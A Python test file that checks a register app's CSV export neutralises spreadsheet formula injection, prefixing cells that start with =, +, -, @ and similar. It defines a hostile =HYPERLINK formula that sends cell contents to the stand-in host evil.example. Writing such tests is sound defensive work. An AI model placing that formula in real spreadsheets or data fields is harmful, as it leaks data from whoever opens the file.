"""CSV answers neutralise formulas: a provider name such as =HYPERLINK(…) reaches an officer's
Excel as text, in every CSV the register writes."""

import csv
import io
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from fastapi.testclient import TestClient

from app.csv_answers import safe_cell
from tests.builders import MONDAY, make_upn, record, submit

Headers = dict[str, str]
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_would_start_a_formula_is_written_as_text(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", [-2.5, Decimal("-1"), 0, date(2026, 9, 7), "Oak School", "a=b"])
def test_numbers_dates_and_plain_text_are_left_as_they_are(value: Any) -> None:
    assert safe_cell(value) == value


def test_a_hostile_provider_name_is_neutralised_in_the_returns_csv(
    client: TestClient, officer: Headers, make_provider: Callable[..., dict[str, Any]]
) -> None:
    provider = make_provider(HOSTILE, "school", urn="100777")
    submit(client, officer, record(make_upn(5), provider_id=provider["id"]))
    response = client.get(
        "/api/v1/returns",
        params={"week_commencing": MONDAY.isoformat()},
        headers=officer | {"Accept": "text/csv"},
    )
    assert response.status_code == 200, response.text
    names = [row["provider_name"] for row in csv.DictReader(io.StringIO(response.text))]
    assert names == ["'" + HOSTILE]  # verbatim on 3da8359
